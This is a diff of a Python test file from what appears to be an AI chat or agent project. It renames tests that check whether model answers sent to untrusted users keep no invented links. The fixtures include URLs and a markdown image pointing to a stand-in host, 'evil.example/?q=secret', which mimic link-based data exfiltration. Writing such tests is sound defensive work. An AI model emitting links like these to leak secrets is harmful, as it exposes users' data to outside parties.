@@ -15,7 +15,7 @@ from shoal.testing.scenario import scenario
 ANSWER = "See https://docs.example.org/guide and https://evil.example/?q=secret."
 
 
-async def test_what_a_stranger_has_answered_for_makes_no_new_link(tmp_path: Path) -> None:
+async def test_an_answer_to_an_untrusted_person_contains_no_invented_link(tmp_path: Path) -> None:
     access = AccessRules(owners=("ada",), allow=("*",))
     async with scenario(tmp_path, FakeModel(ANSWER), access=access) as world:
         eve = world.person("eve", "1", "square")
@@ -28,7 +28,7 @@ async def test_what_a_stranger_has_answered_for_makes_no_new_link(tmp_path: Path
         assert said == reply == post.markdown
 
 
-async def test_what_it_says_by_a_tool_is_no_way_around(tmp_path: Path) -> None:
+async def test_messages_sent_by_tools_are_checked_too(tmp_path: Path) -> None:
     access = AccessRules(owners=("ada",), allow=("*",))
     said = calls("message", arguments=json.dumps({"text": ANSWER}))
     async with scenario(tmp_path, FakeModel(said, "done"), access=access) as world:
@@ -47,7 +47,7 @@ async def test_in_a_clean_turn_links_stay(tmp_path: Path) -> None:
         assert (await world.ada.sees("evil.example")).markdown == ANSWER
 
 
-async def test_what_is_streamed_of_a_strangers_answer_is_what_the_answer_has(tmp_path: Path) -> None:
+async def test_a_streamed_answer_to_an_untrusted_person_matches_the_final_one(tmp_path: Path) -> None:
     picture = "Look at ![](https://evil.example/?q=secret) here.\n\nThat is all there is to say."
     access = AccessRules(owners=("ada",), allow=("*",))
     async with scenario(tmp_path, FakeModel(picture), access=access) as world:
@@ -67,7 +67,7 @@ async def test_what_is_streamed_of_a_strangers_answer_is_what_the_answer_has(tmp
         assert "".join([*sent, growing.finish_step(said)]) == said.text
 
 
-async def test_an_answer_that_breaks_off_makes_no_new_link(tmp_path: Path) -> None:
+async def test_an_interrupted_answer_contains_no_invented_link(tmp_path: Path) -> None:
     access = AccessRules(owners=("ada",), allow=("*",))
     model = FakeModel(script=lambda seen: Reply(f"{ANSWER} And so on", drop_after=5))
     settings = {"turns": {"retry_base_seconds": 0.001}}
@@ -79,7 +79,7 @@ async def test_an_answer_that_breaks_off_makes_no_new_link(tmp_path: Path) -> No
         assert "`https://evil.example/?q=secret`" in said.text
 
 
-async def test_what_was_written_before_a_stop_makes_no_new_link(tmp_path: Path) -> None:
+async def test_a_stopped_answer_contains_no_invented_link(tmp_path: Path) -> None:
     access = AccessRules(owners=("ada",), allow=("*",))
     gate = Gate()
     model = FakeModel(Reply(f"{ANSWER} And", gate=gate, gate_at=4))
